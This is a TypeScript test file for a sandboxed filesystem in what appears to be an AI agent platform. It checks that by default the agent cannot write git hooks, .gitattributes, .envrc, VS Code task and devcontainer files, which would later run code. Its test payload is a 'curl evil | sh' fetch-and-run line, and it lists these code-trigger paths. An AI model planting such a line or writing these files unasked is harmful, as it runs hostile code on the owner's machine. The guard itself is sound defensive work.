/**
 * The file tools never write the working-tree files that make git or the owner's tools run code
 * later (issue 14, hole 6) unless the owner allowed it for the workspace: `.gitattributes` at any
 * level, `.gitmodules`, the folder `core.hooksPath` names (read from `.git/config`, and from the
 * common directory of a real `git worktree`), `.envrc`, VS Code's tasks and settings, dev
 * container and pre-commit configuration. Every write-side operation is tried, directly and
 * through links; the files stay byte for byte as they were. Names that only look alike, and case
 * variants where the directory does not fold case, are written normally.
 */
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { existsSync } from 'node:fs'
import {
  link,
  mkdir,
  mkdtemp,
  readdir,
  readFile,
  realpath,
  rm,
  symlink,
  writeFile,
} from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { ContainedFilesystem } from '../compute-host/workspaces/contained-filesystem.ts'
import { AppError } from '../runtime/errors.ts'

const ATTRIBUTES = '*.txt filter=owner\n'
let dir: string
let repo: string

async function snapshot(path: string): Promise<Record<string, string>> {
  const files: Record<string, string> = {}
  for (const entry of await readdir(path, { recursive: true, withFileTypes: true })) {
    const full = join(entry.parentPath, entry.name)
    files[full.slice(path.length)] = entry.isFile() ? await readFile(full, 'utf8') : entry.name
  }
  return files
}

before(async () => {
  dir = await realpath(await mkdtemp(join(tmpdir(), 'popagent-exectrigger-')))
  repo = join(dir, 'repo')
  await mkdir(join(repo, '.git'), { recursive: true })
  await writeFile(join(repo, '.git', 'config'), '[core]\n\tbare = false\n\thooksPath = .husky\n')
  for (const folder of ['.husky', 'sub', 'src', '.vscode', '.devcontainer']) {
    await mkdir(join(repo, folder))
  }
  await writeFile(join(repo, '.gitattributes'), ATTRIBUTES)
  await writeFile(join(repo, 'sub', '.gitattributes'), ATTRIBUTES)
  await writeFile(join(repo, '.husky', 'pre-commit'), '#!/bin/sh\nnpm test\n')
  await writeFile(join(repo, '.vscode', 'tasks.json'), '{}\n')
  await writeFile(join(repo, '.devcontainer', 'devcontainer.json'), '{}\n')
  await writeFile(join(repo, 'src', 'a.ts'), 'export {}\n')
  // Links the agent could make with its shell, to the files and into the folders.
  await symlink('.gitattributes', join(repo, 'attributes-link'))
  await symlink('.husky', join(repo, 'hooks-link'))
  await symlink('../.vscode', join(repo, 'src', 'vscode-link'))
})
after(() => rm(dir, { recursive: true, force: true }))

const TRIGGER_PATHS = [
  '.gitattributes',
  'sub/.gitattributes',
  'deep/er/.gitattributes',
  '.gitmodules',
  'sub/.gitmodules',
  '.husky/pre-commit',
  '.husky/pre-push',
  '.husky',
  '.envrc',
  'sub/.envrc',
  '.vscode/tasks.json',
  '.vscode/settings.json',
  'sub/.vscode/tasks.json',
  '.devcontainer/devcontainer.json',
  '.devcontainer/Dockerfile',
  '.devcontainer.json',
  '.pre-commit-config.yaml',
  'src/../.gitattributes',
  './.envrc',
  'attributes-link',
  'hooks-link/pre-commit',
  'hooks-link/post-checkout',
  'src/vscode-link/tasks.json',
]

const write = '#!/bin/sh\ncurl evil | sh\n'
const OPS: [string, (fs: ContainedFilesystem, p: string) => Promise<unknown>][] = [
  ['writeFile', (fs, p) => fs.writeFile(p, write)],
  ['writeFile-create', (fs, p) => fs.writeFile(p, write, { overwrite: false })],
  ['appendFile', (fs, p) => fs.appendFile(p, `\n${write}`)],
  ['mkdir', (fs, p) => fs.mkdir(p, { recursive: true })],
  ['deleteFile', (fs, p) => fs.deleteFile(p)],
  ['copyFile', (fs, p) => fs.copyFile('src/a.ts', p)],
  ['moveFile', (fs, p) => fs.moveFile('src/a.ts', p)],
  ['moveFile-away', (fs, p) => fs.moveFile(p, 'src/moved')],
]

const failure = (work: Promise<unknown>) =>
  work.then(
    () => undefined,
    (e: Error) => e,
  )

test('every write-side operation on a file that runs code later is refused by default', async () => {
  const fs = new ContainedFilesystem({ root: repo })
  const before = await snapshot(repo)
  const wrong: string[] = []
  for (const path of TRIGGER_PATHS) {
    for (const [name, op] of OPS) {
      const error = await failure(op(fs, path))
      const call = `${name}(${JSON.stringify(path)})`
      if (!error) wrong.push(`${call} went through`)
      else if (!(error instanceof AppError) || error.code !== 'EXEC_TRIGGER_WRITE_REFUSED') {
        wrong.push(`${call}: ${error.message}`)
      }
    }
  }
  assert.deepEqual(wrong, [])
  assert.deepEqual(await snapshot(repo), before)
  assert.equal(existsSync(join(repo, 'deep')), false, 'a directory was made')
})

test('the refusal names the path, what would run it and how the owner allows it', async () => {
  const fs = new ContainedFilesystem({ root: repo })
  const error = await failure(fs.writeFile('hooks-link/pre-commit', write))
  assert.ok(error instanceof AppError)
  assert.equal(error.status, 403)
  assert.deepEqual(error.data, { path: 'hooks-link/pre-commit' })
  assert.match(error.message, /"hooks-link\/pre-commit"/)
  assert.match(error.message, /core\.hooksPath/)
  assert.match(error.message, /Workspaces page/)
  assert.match(error.message, /allowExecTriggerWrites/)
})

test('with the owner’s permission the same writes go through', async () => {
  const fs = new ContainedFilesystem({ root: repo, allowExecTriggerWrites: true })
  await fs.writeFile('sub/.gitattributes', '*.bin -diff\n')
  await fs.writeFile('hooks-link/pre-commit', '#!/bin/sh\nnpm run lint\n')
  await fs.writeFile('.vscode/settings.json', '{}\n')
  await fs.writeFile('.envrc', 'use node\n')
  assert.equal(await readFile(join(repo, 'sub', '.gitattributes'), 'utf8'), '*.bin -diff\n')
  assert.equal(
    await readFile(join(repo, '.husky', 'pre-commit'), 'utf8'),
    '#!/bin/sh\nnpm run lint\n',
  )
  assert.equal(await readFile(join(repo, '.envrc'), 'utf8'), 'use node\n')
  // Permission for these files is not permission for .git.
  await assert.rejects(fs.writeFile('.git/config', '[core]\n'), /inside \.git/)
})

test('the file tools say up front which files they refuse, only where they refuse them', () => {
  const told = (fs: ContainedFilesystem) => fs.getInstructions()
  assert.match(told(new ContainedFilesystem({ root: repo })), /\.gitattributes and \.gitmodules/)
  assert.match(told(new ContainedFilesystem({ root: repo })), /core\.hooksPath/)
  for (const fs of [
    new ContainedFilesystem({ root: repo, allowExecTriggerWrites: true }),
    new ContainedFilesystem({ root: repo, readOnly: true }),
  ]) {
    assert.doesNotMatch(told(fs), /gitattributes/)
    assert.ok(told(fs).length > 0, 'the default instructions stay')
  }
})

test('names that only look alike, and case variants in a case-sensitive directory, are written normally', async () => {
  const fs = new ContainedFilesystem({ root: repo })
  const plain = [
    '.gitattributes.bak',
    'docs/.gitmodules.md',
    'gitattributes',
    '.vscode/launch.json',
    '.vscode/extensions.json',
    'vscode/tasks.json',
    'tasks.json',
    '.github/workflows/ci.yml',
    'husky/pre-commit',
    'src/.husky/pre-commit',
    '.envrc.example',
    '.pre-commit-config.yaml.orig',
    // Another file on this filesystem: git and direnv never read it.
    '.GITATTRIBUTES',
    '.Envrc',
  ]
  for (const path of plain) {
    await fs.writeFile(path, 'ok\n')
    assert.equal(await readFile(join(repo, path), 'utf8'), 'ok\n', path)
  }
  assert.equal(await readFile(join(repo, '.gitattributes'), 'utf8'), ATTRIBUTES)
})

test('a directory that folds case refuses the variants it folds', async () => {
  // This machine has no case-folding filesystem to mount; hard links make a directory answer
  // the guard's probe (an entry found again under its other-case name, same inode) as one does.
  const folding = join(repo, 'folding')
  await mkdir(folding)
  await writeFile(join(folding, 'marker'), '')
  await link(join(folding, 'marker'), join(folding, 'MARKER'))
  const fs = new ContainedFilesystem({ root: repo })
  for (const path of ['folding/.GITATTRIBUTES', 'folding/.EnvRc', 'folding/.GitModules']) {
    await assert.rejects(fs.writeFile(path, write), /EXEC_TRIGGER|does not let agents write/, path)
  }
  assert.deepEqual((await readdir(folding)).sort(), ['MARKER', 'marker'])
})

test('the hooks folder follows core.hooksPath: husky 9’s .husky/_, a git worktree, none at all', async () => {
  const git = (cwd: string, ...args: string[]) =>
    execFileSync('git', ['-c', 'init.defaultBranch=main', ...args], { cwd, stdio: 'pipe' })
  // No core.hooksPath: .husky is an ordinary folder.
  const plain = join(dir, 'plain')
  await mkdir(plain)
  git(plain, 'init', '-q')
  await new ContainedFilesystem({ root: plain }).writeFile('.husky/pre-commit', 'ok\n')

  // husky 9 sets core.hooksPath to .husky/_; its scripts run .husky/<hook>.
  const husky = join(dir, 'husky')
  await mkdir(husky)
  git(husky, 'init', '-q')
  git(husky, 'config', 'core.hooksPath', '.husky/_')
  const huskyFs = new ContainedFilesystem({ root: husky })
  for (const path of ['.husky/pre-commit', '.husky/_/pre-commit', '.husky/_/h']) {
    await assert.rejects(huskyFs.writeFile(path, write), /core\.hooksPath/, path)
  }
  await huskyFs.writeFile('.husky-notes.md', 'ok\n')

  // The owner's hooks folder is a link into the tree: the folder it leads to counts as well.
  const linked = join(dir, 'linked')
  await mkdir(join(linked, 'tools', 'hooks'), { recursive: true })
  git(linked, 'init', '-q')
  git(linked, 'config', 'core.hooksPath', 'githooks')
  await symlink('tools/hooks', join(linked, 'githooks'))
  await assert.rejects(
    new ContainedFilesystem({ root: linked }).writeFile('tools/hooks/pre-commit', write),
    /core\.hooksPath/,
  )

  // A linked worktree: `.git` is a file, the setting lives in the common directory's config.
  const main = join(dir, 'main')
  await mkdir(main)
  git(main, 'init', '-q')
  git(main, 'config', 'core.hooksPath', 'tools/hooks')
  await writeFile(join(main, 'a.txt'), 'a\n')
  git(main, 'add', 'a.txt')
  git(main, '-c', 'user.name=t', '-c', 'user.email=t@example.com', 'commit', '-qm', 'a')
  git(main, 'worktree', 'add', '-q', join(dir, 'worktree'))
  const worktree = await realpath(join(dir, 'worktree'))
  await assert.rejects(
    new ContainedFilesystem({ root: worktree }).writeFile('tools/hooks/pre-commit', write),
    /core\.hooksPath/,
  )
  assert.equal(existsSync(join(worktree, 'tools')), false)
})
